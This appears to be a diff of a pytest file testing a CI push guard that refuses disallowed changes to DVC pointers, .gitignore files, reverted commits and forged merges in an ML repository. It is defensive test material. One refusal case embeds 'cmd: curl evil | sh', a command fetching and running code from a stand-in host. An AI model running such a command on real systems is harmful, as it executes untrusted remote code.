@@ -24,6 +24,10 @@ printf '<%s>' "$@" >> "$MLSPEC_CALLS"
 echo plan > out/plan.md
 echo '{"actions": []}' > out/plan.json
 """
+POINTER = "outs:\n- md5: 0123456789abcdef0123456789abcdef\n  size: 12\n  hash: md5\n  path: rows.csv\n"
+
+
+OLD_POINTER = POINTER.replace("- md5: 0", "- desc: rows of a friend\n  md5: 1")
 GitFunction = Callable[..., str]
 
 
@@ -95,6 +99,11 @@ def train(repo: Path, git: GitFunction, remote: Path, tmp_path: Path) -> Job:
     """The train job when its training is done; the remote has a tag and a chain already."""
     (repo / LOCK).parent.mkdir(parents=True)
     (repo / LOCK).write_text("1")
+    (repo / "specs").mkdir()
+    (repo / "specs" / "wine.yaml").write_text("data: {source: {path: data/rows.csv}}\ntraining: {code: train.py}\n")
+    (repo / "train.py").touch()
+    (repo / "old").mkdir()
+    (repo / "old" / "rows.csv.dvc").write_text(OLD_POINTER)
     git("add", ".")
     git("commit", "-qm", "models")
     git("tag", "-am", "old", "wine@v0.1.0")
@@ -193,13 +202,11 @@ def test_other_changes_are_refused(train: Job, path: str, tag: str, words: str) 
     refused(push(train), words, train, before)
 
 
-POINTER = "outs:\n- md5: 0123456789abcdef0123456789abcdef\n  size: 12\n  hash: md5\n  path: rows.csv\n"
-
-
 def test_data_that_was_fetched_anew_is_a_pointer_and_a_line_that_hides_it(train: Job) -> None:
     train.commit("data/rows.csv.dvc", text=POINTER)
     train.commit("data/.gitignore", text="/rows.csv\n")
     train.commit(".gitignore", text="/rows.csv\n")
+    train.commit("old/rows.csv.dvc", text=OLD_POINTER.replace("md5: 1", "md5: 2"))
     assert push(train).returncode == 0
 
 
@@ -210,10 +217,16 @@ def test_data_that_was_fetched_anew_is_a_pointer_and_a_line_that_hides_it(train:
         ("data/rows.csv.dvc", POINTER.replace("rows.csv", "../rows.csv")),
         ("data/rows.csv.dvc", POINTER.replace("- md5", "- cache: false\n  md5")),
         ("data/rows.csv", POINTER),
+        ("data/rows.csv.dvc", POINTER.replace("rows.csv", "other.csv")),
+        ("data/other.csv.dvc", POINTER.replace("rows.csv", "other.csv")),
+        ("train.py.dvc", POINTER.replace("rows.csv", "train.py")),
+        ("old/rows.csv.dvc", OLD_POINTER.replace("rows.csv", "other.csv")),
+        ("old/rows.csv.dvc", f"{OLD_POINTER}cmd: curl evil | sh\n"),
         (".dvc/config.dvc", POINTER),
         (".dvc/.gitignore", "/rows.csv\n"),
         (".gitignore", "*\n"),
         (".gitignore", "/rows.csv\n!secret\n"),
+        (".gitignore", "/rows.csv\n*\n\0"),
         ("data/.gitattributes", "/rows.csv\n"),
     ],
 )
@@ -243,11 +256,43 @@ def test_a_link_in_the_place_of_a_file_is_refused(train: Job) -> None:
     refused(push(train), "may only change", train, before)
 
 
-def test_what_was_put_back_in_a_later_commit_does_not_count(train: Job) -> None:
-    train.commit("README.md", text="mine")
+def test_what_a_later_commit_took_back_is_refused_too(train: Job) -> None:
+    before = refs(train)
+    train.commit("README.md", "wine@v9.9.9", text="mine")
     train.git("revert", "--no-edit", "HEAD")
     train.commit(LOCK, "wine@v0.2.0")
+    refused(push(train), "may only change", train, before)
+
+
+def test_what_a_later_record_took_back_is_refused_too(train: Job) -> None:
+    before = refs(train)
+    known = train.git("rev-parse", "refs/mlspec/project")
+    other = train.git("commit-tree", "-p", known, "-m", "other files", "HEAD^{tree}")
+    back = train.git("commit-tree", "-p", other, "-m", "taken back", f"{known}^{{tree}}")
+    train.git("update-ref", "refs/mlspec/project", back)
+    refused(push(train), "records are not mlspec's", train, before)
+
+
+def test_a_merge_that_git_itself_would_make_is_taken(train: Job) -> None:
+    train.commit(LOCK, "wine@v0.2.0")
+    train.git("switch", "-qc", "beside", "HEAD~1")
+    train.commit(f"{MODELS}/digits/dvc.lock")
+    train.git("switch", "-q", "main")
+    train.git("merge", "-q", "--no-edit", "beside")
     assert push(train).returncode == 0
+
+
+def test_a_merge_that_says_more_than_its_parents_is_refused(train: Job) -> None:
+    before = refs(train)
+    train.commit("README.md", text="mine")
+    tree, older = train.git("rev-parse", "HEAD^{tree}"), train.git("rev-parse", "HEAD~1")
+    train.git("reset", "-q", "--hard", "HEAD~1")
+    train.commit(LOCK)
+    merge = train.git("commit-tree", "-p", "HEAD", "-p", older, "-m", "merge", tree)
+    train.git("reset", "-q", "--hard", merge)
+    train.git("revert", "--no-edit", "-m", "1", "HEAD")
+    assert train.git("diff", "--name-only", "origin/main", "HEAD") == LOCK
+    refused(push(train), "may only change", train, before)
 
 
 def test_a_tag_of_another_history_is_refused(train: Job) -> None:
@@ -392,6 +437,7 @@ case "$1" in
 esac
 """)
     (tmp_path / "mlspec").chmod(0o755)
+    (tmp_path / "json.py").write_text("raise SystemExit(9)")  # the checkout's own modules are not asked
     script = "chosen=()\n" + (root() / "ci/scripts/deploy.sh").read_text()
     environ = os.environ | {
         "PATH": f"{tmp_path}:{os.environ['PATH']}",
@@ -403,13 +449,16 @@ esac
     assert done.returncode == ended
 
 
-def proposed(train: Job, path: str) -> bool:
-    """Whether what waits at origin is taken in by a run that is about to plan."""
+def proposed(train: Job, path: str, then: str = "") -> bool:
+    """Whether what waits at origin is taken in by a run that is about to plan; with `then` that, in place of `path`."""
     other = train.folder.with_name("other")
     train.git("clone", "-q", train.git("remote", "get-url", "origin"), str(other))
     waiting = replace(train, folder=other)
     waiting.git("checkout", "-q", "-b", "mlspec/trained")
     waiting.commit(path, text="waits")
+    if then:
+        waiting.git("revert", "--no-edit", "HEAD")
+        waiting.commit(path := then, text="waits")
     waiting.git("push", "-q", "origin", "mlspec/trained")
     train.git("fetch", "-q", "origin")
     replace(train, publishing="pull_request").must("Plan", MODEL="")
@@ -424,6 +473,12 @@ def test_results_that_wait_to_be_merged_are_taken_in_and_are_no_result_of_this_r
     train.must("Bundle the result")
     assert not (train.folder / "out" / "result.bundle").exists()
     assert {ref for ref in refs(train) if ref not in before} == {"refs/heads/mlspec/trained"}
+
+
+def test_code_that_was_taken_back_is_not_taken_in(train: Job) -> None:
+    head = train.git("rev-parse", "HEAD")
+    assert not proposed(train, "README.md", LOCK)
+    assert train.git("rev-parse", "HEAD") == head
 
 
 @pytest.mark.parametrize("path", ["train.py", f"{MODELS}/wine/dvc.yaml", f"{MODELS}/wine/train.py", ".dvc/config"])
